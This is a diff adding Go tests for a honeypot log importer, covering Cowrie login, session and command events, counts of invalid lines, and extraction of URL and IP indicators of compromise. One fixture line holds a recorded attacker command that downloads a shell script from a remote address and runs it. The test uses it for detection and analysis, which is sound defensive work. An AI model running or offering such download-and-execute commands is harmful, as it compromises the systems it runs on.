@@ -0,0 +1,96 @@
+package importer
+
+import (
+	"bytes"
+	"compress/gzip"
+	"strings"
+	"testing"
+
+	"github.com/abehterev/fakessh/internal/logger"
+)
+
+func TestImport(t *testing.T) {
+	log := strings.Join([]string{
+		`{"eventid":"cowrie.login.failed","username":"root","password":"123456","timestamp":"2024-03-07T14:02:11.123456Z","src_ip":"203.0.113.45","session":"a1"}`,
+		``,
+		`not json`,
+		`{"eventid":"cowrie.session.closed","timestamp":"2024-03-07T14:02:12Z","src_ip":"203.0.113.45","session":"a1"}`,
+	}, "\n")
+
+	var compressed bytes.Buffer
+	gz := gzip.NewWriter(&compressed)
+	gz.Write([]byte(log))
+	gz.Close()
+
+	converter, err := NewConverter(FormatCowrie, Config{})
+	if err != nil {
+		t.Fatalf("Failed to create converter: %v", err)
+	}
+	var usernames []string
+	result, err := Import(&compressed, converter, func(event *logger.Event) error {
+		usernames = append(usernames, event.GetString("username"))
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("Import failed: %v", err)
+	}
+	if result != (Result{Lines: 3, Events: 1, Invalid: 1}) {
+		t.Errorf("Unexpected result: %+v", result)
+	}
+	if len(usernames) != 1 || usernames[0] != "root" {
+		t.Errorf("Unexpected events: %v", usernames)
+	}
+
+	if _, err := NewConverter("kippo", Config{}); err == nil {
+		t.Errorf("Expected error for unknown format")
+	}
+}
+
+func TestImportIOC(t *testing.T) {
+	log := strings.Join([]string{
+		`{"eventid":"cowrie.session.connect","timestamp":"2024-03-07T14:02:10Z","src_ip":"203.0.113.45","src_port":40022,"session":"a1"}`,
+		`{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://198.51.100.7/bins.sh; sh bins.sh","timestamp":"2024-03-07T14:02:15Z","src_ip":"203.0.113.45","session":"a1"}`,
+		`{"eventid":"cowrie.command.input","input":"uname -a","timestamp":"2024-03-07T14:02:16Z","src_ip":"203.0.113.45","session":"a1"}`,
+	}, "\n")
+
+	converter, err := NewConverter(FormatCowrie, Config{IOC: true})
+	if err != nil {
+		t.Fatalf("Failed to create converter: %v", err)
+	}
+	var events []*logger.Event
+	if _, err := Import(strings.NewReader(log), converter, func(event *logger.Event) error {
+		events = append(events, event)
+		return nil
+	}); err != nil {
+		t.Fatalf("Import failed: %v", err)
+	}
+
+	// The indicators of a command follow it
+	var types []string
+	for _, event := range events {
+		types = append(types, event.Type)
+	}
+	if strings.Join(types, ",") != "command,ioc,ioc,command" {
+		t.Fatalf("Unexpected events: %v", types)
+	}
+	command, url, ip := events[0], events[1], events[2]
+	if url.GetString("ioc_type") != "url" || url.GetString("ioc_value") != "http://198.51.100.7/bins.sh" {
+		t.Errorf("Unexpected indicator: %s %s", url.GetString("ioc_type"), url.GetString("ioc_value"))
+	}
+	if ip.GetString("ioc_type") != "ip" || ip.GetString("ioc_value") != "198.51.100.7" {
+		t.Errorf("Unexpected indicator: %s %s", ip.GetString("ioc_type"), ip.GetString("ioc_value"))
+	}
+	if command.ID == "" || url.GetString("parent_event_id") != command.ID {
+		t.Errorf("Expected indicators linked to command %q, got %q", command.ID, url.GetString("parent_event_id"))
+	}
+	if url.GetString("remote_addr") != "203.0.113.45:40022" || !url.Time.Equal(command.Time) {
+		t.Errorf("Expected source and time of the command, got %s at %v", url.GetString("remote_addr"), url.Time)
+	}
+
+	// Without the setting commands are converted alone
+	converter, _ = NewConverter(FormatCowrie, Config{})
+	result, err := Import(strings.NewReader(log), converter, func(event *logger.Event) error { return nil })
+	if err != nil || result.Events != 2 {
+		t.Errorf("Expected 2 events without indicators, got %d: %v", result.Events, err)
+	}
+}